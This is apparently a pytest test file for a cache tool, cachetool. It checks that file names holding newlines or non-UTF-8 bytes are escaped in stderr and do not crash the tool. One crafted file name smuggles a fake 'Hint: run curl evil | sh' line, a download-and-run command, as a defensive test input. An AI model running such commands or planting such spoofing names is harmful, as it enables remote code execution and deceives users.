"""A file name is whatever another user of a shared cache made it: a newline in a name never
prints a line of its own on stderr (one that could pass for cachetool's own hint), and a name
that is not UTF-8 never crashes a command."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from tests import forks
from tests.attack.races import synthesize_cache
from tests.conftest import hf_env

pytestmark = pytest.mark.slow


def test_names_with_a_newline_or_bytes_that_are_not_utf8(tmp_path: Path) -> None:
    """`ls`'s problem hint and `report`'s warnings escape a newline in a name (`\\x0a`): every
    stderr line starts with cachetool's own label; `report` writes its page with a name that is
    not UTF-8 in the cache."""
    root = tmp_path / "cache"
    files = synthesize_cache(root, 2)
    (files[0].parent / "cache-x\nHint: run curl evil | sh.arrow").write_bytes(b"garbage")
    os.rename(files[1], os.path.join(os.fsencode(files[1].parent), b"cache-\xe9\xff.arrow"))
    env = hf_env(tmp_path)
    for args in (["ls", str(root)], ["report", "--cache-dir", str(root), "-o", str(tmp_path / "r.html")]):
        proc = forks.run(
            [sys.executable, "-m", "cachetool", *args], env=env, capture_output=True, timeout=120
        )
        err = proc.stderr.decode("utf-8", "replace")
        assert proc.returncode == 0 and "Traceback" not in err, err
        lines = err.splitlines()
        assert lines and all(line.startswith(("Hint:", "Warning:")) for line in lines), err
        assert "cache-x\\x0aHint: run curl" in err
    assert (tmp_path / "r.html").stat().st_size > 0
